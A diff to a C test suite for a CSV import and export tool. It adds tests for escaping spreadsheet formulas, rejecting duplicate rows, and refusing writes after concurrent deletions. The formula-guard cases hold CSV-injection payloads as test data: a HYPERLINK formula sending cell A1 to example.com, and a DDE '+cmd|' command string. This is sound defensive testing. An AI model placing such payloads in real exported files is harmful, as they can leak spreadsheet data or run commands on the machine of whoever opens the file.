@@ -141,6 +141,51 @@ test_writer_field (void)
   g_assert_cmpstr (field (back, 0, 2), ==, "");
 }
 
+/* Text a spreadsheet would run as a formula gets an apostrophe before
+ * it, numbers never do, and reading the field back takes off exactly the
+ * apostrophe that was added. */
+static void
+test_writer_formula_guard (void)
+{
+  static const struct { const char *text; const char *written; } cases[] = {
+    { "=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")",
+      "\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"Click\"\")\"" },
+    { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
+    { "@SUM(1+1)", "'@SUM(1+1)" },
+    { "-2+3", "'-2+3" },
+    { "\tTabbed", "'\tTabbed" },
+    { "\rReturned", "\"'\rReturned\"" },
+    { "'=Marked already", "''=Marked already" },
+    { "''+Twice", "'''+Twice" },
+    { "'Quoted, not a formula", "\"'Quoted, not a formula\"" },
+    { "'", "'" },
+    { "Plain words = fine", "Plain words = fine" },
+    { "-5", "-5" },
+    { "-0.25", "-0.25" },
+    { "12", "12" },
+    { "-", "'-" },
+    { "-5.", "'-5." },
+    { "-1e5", "'-1e5" },
+    { "", "" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autoptr(GString) out = g_string_new (NULL);
+      g_autoptr(GPtrArray) back = NULL;
+      g_autofree char *read = NULL;
+
+      pm_csv_append_cell (out, cases[i].text);
+      g_assert_cmpstr (out->str, ==, cases[i].written);
+
+      g_string_append (out, ",x\r\n");
+      back = parse_ok (out->str);
+      read = g_strdup (field (back, 0, 0));
+      pm_csv_strip_formula_guard (read);
+      g_assert_cmpstr (read, ==, cases[i].text);
+    }
+}
+
 /* ---- checking rows against the programme -------------------------------- */
 
 typedef struct
@@ -430,7 +475,11 @@ test_import_repeated_row (Fixture       *fixture,
                                                        WCFC_ROW ("FY2016-Q4", "1", "")
                                                        WCFC_ROW ("FY2016-Q4", "2", ""));
 
-  assert_one_rejection (import, 3, "line 2 already gives FY2016-Q4");
+  /* The second row is refused, the first kept: whether it is saved is
+   * for the user to say (nothing is, unless they accept the valid rows). */
+  assert_one_rejection (import, 3, "line 2 already gives FY2016-Q4 for this KPI");
+  g_assert_nonnull (strstr (pm_progress_import_get_rejection (import, 0, NULL), "this row is refused"));
+  g_assert_null (strstr (pm_progress_import_get_rejection (import, 0, NULL), "only the first is used"));
   g_assert_cmpuint (pm_progress_import_get_n_rows (import), ==, 1);
 }
 
@@ -596,6 +645,52 @@ test_write_cancellable (Fixture       *fixture,
   g_assert_cmpuint (pm_progress_writer_get_n_written (writer), ==, 0);
 }
 
+/* Reviewed: WCFC's Q3 value 5 to change to 6, and a new Q4 value. Then
+ * someone else deletes the Q3 value. The import writes nothing: the
+ * deleted value is not put back, and Q4 is not half of an import. */
+static void
+test_write_deleted_since_review (Fixture       *fixture,
+                                 gconstpointer  data G_GNUC_UNUSED)
+{
+  g_autoptr(PmProgressImport) import = check (fixture, HEADER
+                                                       WCFC_ROW ("FY2016-Q3", "6", "")
+                                                       WCFC_ROW ("FY2016-Q4", "9", ""));
+  g_autoptr(PmProgressWriter) writer = NULL;
+  g_autoptr(PmStore) other = NULL;
+  g_autoptr(PmProgramme) other_programme = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autoptr(PmPeriod) q3 = pm_period_new (2016, 3);
+  g_autoptr(PmPeriod) q4 = pm_period_new (2016, 4);
+  PmKpi *wcfc = find_kpi (fixture->programme, CANNOCK, CANNOCK_PILOT, WCFC_KPI);
+  gint64 before;
+
+  g_assert_cmpuint (pm_progress_import_count_change (import, PM_IMPORT_CHANGE_CHANGED), ==, 1);
+  g_assert_cmpuint (pm_progress_import_count_change (import, PM_IMPORT_CHANGE_NEW), ==, 1);
+
+  other = pm_store_open (fixture->db, PM_STORE_OPEN_DEFAULT, &error);
+  g_assert_no_error (error);
+  other_programme = pm_store_load (other, &error);
+  g_assert_no_error (error);
+  g_assert_true (pm_store_delete_entry (other, find_kpi (other_programme, CANNOCK, CANNOCK_PILOT, WCFC_KPI),
+                                        q3, &error));
+  g_assert_no_error (error);
+  pm_store_close (other);
+  before = count_progress_rows (fixture);
+
+  writer = pm_progress_writer_new (fixture->store, import);
+  g_assert_false (pm_progress_writer_run (writer, NULL, &error));
+  g_assert_error (error, PM_STORE_ERROR, PM_STORE_ERROR_CONFLICT);
+  g_test_message ("%s", error->message);
+  g_assert_nonnull (strstr (error->message, "“" WCFC_KPI "” (Cannock Chase) for Q3 2016/17 was changed "
+                                            "by someone else since you reviewed it; review again."));
+  g_assert_cmpuint (pm_progress_writer_get_n_written (writer), ==, 0);
+  g_assert_cmpint (count_progress_rows (fixture), ==, before);
+
+  /* The window's model is as the review saw it, until it reloads. */
+  g_assert_cmpfloat (pm_progress_entry_get_value (pm_kpi_get_entry (wcfc, q3)), ==, 5);
+  g_assert_null (pm_kpi_get_entry (wcfc, q4));
+}
+
 static void
 test_write_read_only (Fixture       *fixture,
                       gconstpointer  data G_GNUC_UNUSED)
@@ -628,6 +723,7 @@ main (int   argc,
   g_test_add_func ("/csv/reader/bom", test_reader_bom);
   g_test_add_func ("/csv/reader/faults", test_reader_faults);
   g_test_add_func ("/csv/writer/field", test_writer_field);
+  g_test_add_func ("/csv/writer/formula-guard", test_writer_formula_guard);
 
 #define ADD(path, func) \
   g_test_add (path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)
@@ -645,6 +741,7 @@ main (int   argc,
   ADD ("/csv/write/cancel", test_write_cancel);
   ADD ("/csv/write/cancellable", test_write_cancellable);
   ADD ("/csv/write/read-only", test_write_read_only);
+  ADD ("/csv/write/deleted-since-review", test_write_deleted_since_review);
 #undef ADD
 
   return g_test_run ();
